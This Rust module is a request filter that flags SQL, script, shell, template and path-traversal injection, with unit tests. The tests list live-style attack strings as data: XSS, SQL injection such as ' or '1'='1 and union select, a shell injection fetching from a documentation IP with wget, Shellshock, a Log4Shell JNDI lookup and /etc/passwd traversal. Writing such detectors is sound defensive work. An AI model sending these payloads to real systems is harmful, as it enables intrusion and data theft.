//! Code in requests that is to be run: what a list has, and what takes more than a list.
//!
//! People search for `union select committee` and read about `/etc/passwd`; so what is looked for is what attacks need in
//! order to work, not a word that they share with those who write about them.

use std::borrow::Cow;
use std::sync::LazyLock;

use memchr::{memchr, memchr_iter, memmem};
use percent_encoding::percent_decode;

use crate::web::pattern::PatternList;

/// Returns the text that is looked at, decoded twice as attackers encode twice, in lower case, plus signs as spaces. SQL's
/// empty comments are spaces, too.
pub(crate) fn decode(text: &str) -> String {
    // Most have nothing to be decoded.
    let once: Cow<'_, [u8]> = percent_decode(text.as_bytes()).into();
    let mut said = match once {
        Cow::Borrowed(_) => text.to_owned(),
        Cow::Owned(once) => percent_decode(&once).decode_utf8_lossy().into_owned(),
    };
    said.make_ascii_lowercase();
    if memchr(b'+', said.as_bytes()).is_some() {
        said = said.replace('+', " ");
    }
    if memchr(b'*', said.as_bytes()).is_some() {
        said = said.replace("/**/", " ");
    }
    said
}

/// Returns whether a decoded text carries SQL, script, shell, templates or a way out of a directory.
pub(crate) fn is_injection(decoded: &str, code: &PatternList) -> bool {
    code.matches(decoded) || compares_behind_quote(decoded) || unites(decoded)
}

/// Longest operand of a comparison, and longest beginning of a list of columns.
const OPERAND_BYTES_MAX: usize = 40;

/// A quote, then `or` or `and`, then a comparison: `' or '1'='1`, but not `"rock" or "roll"`.
fn compares_behind_quote(text: &str) -> bool {
    let quotes = memchr_iter(b'\'', text.as_bytes()).chain(memchr_iter(b'"', text.as_bytes()));
    quotes.map(|at| text[at + 1..].trim_start_matches([' ', ')'])).any(|rest| {
        let words = ["or ", "and ", "or(", "and(", "|| ", "&& "];
        let operand = words.iter().find_map(|word| rest.strip_prefix(word)).unwrap_or_default();
        let length =
            operand.bytes().take(OPERAND_BYTES_MAX).position(|byte| matches!(byte, b'=' | b'<' | b'>'));
        length.is_some_and(|length| {
            let operand = operand[..length].trim();
            let is_plain = |byte: u8| byte.is_ascii_alphanumeric() || b"'\"()_. ".contains(&byte);
            !operand.is_empty() && operand.bytes().all(is_plain)
        })
    })
}

/// The word by which nearly all texts are passed over: searches for it are prepared once.
static UNION: LazyLock<memmem::Finder<'static>> = LazyLock::new(|| memmem::Finder::new("union"));

/// `union select` with what follows it in SQL: a literal, or a list.
fn unites(text: &str) -> bool {
    if UNION.find(text.as_bytes()).is_none() {
        return false;
    }
    let ends = ["union select", "union all select", "union distinct select", "union(select"];
    ends.iter().flat_map(|words| memmem::find_iter(text.as_bytes(), words).map(|at| at + words.len())).any(
        |at| {
            let rest = text[at..].trim_start();
            let list = &rest[..rest.floor_char_boundary(OPERAND_BYTES_MAX)];
            let list = list.split(['&', '\n']).next().unwrap_or_default();
            list.starts_with(|c: char| c.is_ascii_digit() || "'\"(@*".contains(c))
                || list.starts_with("null")
                || list.contains(',')
                || list.contains(" from ")
        },
    )
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::web::pattern::RequestPatterns;

    #[test]
    fn code_is_told_from_those_who_write_about_it() {
        let lists = RequestPatterns::of_the_presets();
        for code in [
            "q=%3CScRiPt%3Ealert(1)",
            "a=javascript%3Aalert(1)",
            "x=\"onerror=alert(1)",
            "id=1' or '1'='1",
            "id=1') or ('a'='a",
            "id=1\" and \"a\"=\"a",
            "id=1'/**/or/**/1=1",
            "id=1 or 1=1",
            "id=-1+union+all+select+null,null",
            "id=1 union select password from users",
            "id=1/**/UNION/**/SELECT/**/1,2",
            "name=admin'--",
            "id=1 and sleep(5)",
            "host=;wget http://192.0.2.1/x",
            "f=..%252f..%252fetc/passwd",
            "f=%252e%252e/%252e%252e/x",
            "() { :; }; echo",
            "${jndi:ldap://192.0.2.1/a}",
            "x=%00",
        ] {
            assert!(is_injection(&decode(code), &lists.attacks), "{code}");
        }
        for said in [
            "/blog/powershell-tips",
            "q=curl+tutorial",
            "q=curl+http+request",
            "q=union+all+the+workers&sort=asc",
            "q=union+select+committee",
            "q=%22rock%22+or+%22roll%22&page=2",
            "q=rock+%27n%27+roll+%27and+more",
            "/docs/javascript:void-operator",
            "filter=concat(first,last)",
            "ref=news/<br",
            "q=how+to+use+<table>+and+<br>",
            "q=time.sleep(5)",
            "q=confirm()+or+prompt()",
            "/img/${product.id}",
            "return=../list",
            "q=%23!/bin/bash+set+-e",
            "q=what+is+cmd.exe",
            "onload=start&render=explicit",
            "",
        ] {
            assert!(!is_injection(&decode(said), &lists.attacks), "{said}");
        }
    }

    #[test]
    fn texts_are_decoded_twice() {
        for (text, decoded) in [
            ("", ""),
            ("/A?b=C", "/a?b=c"),
            ("a+b", "a b"),
            ("a%2Bb%252Bc", "a b c"),
            ("a/**/b%2F**/c", "a b c"),
            ("%2525 %zz %", "% %zz %"),
            ("%C3%84\u{c4}", "\u{c4}\u{c4}"),
            ("%FF", "\u{fffd}"),
        ] {
            assert_eq!(decode(text), decoded, "{text}");
        }
    }

    #[test]
    fn pages_that_nobody_links_to_are_known() {
        let lists = RequestPatterns::of_the_presets();
        for path in ["/.env.bak", "/s72_shell.php", "/cgi/networkdiag.cgi", "/x/.wp-config.php.swp"] {
            assert!(lists.probes.matches(path), "{path}");
        }
        for path in
            ["/products/telescopes", "/recipes/shellfish-pasta", "/.well-known/security.txt", "/.github/x"]
        {
            assert!(!lists.probes.matches(path), "{path}");
        }
        assert!(lists.exploits.matches("/w00tw00t.at.isc.sans.dfind") && !lists.exploits.matches("/solr/"));
    }
}
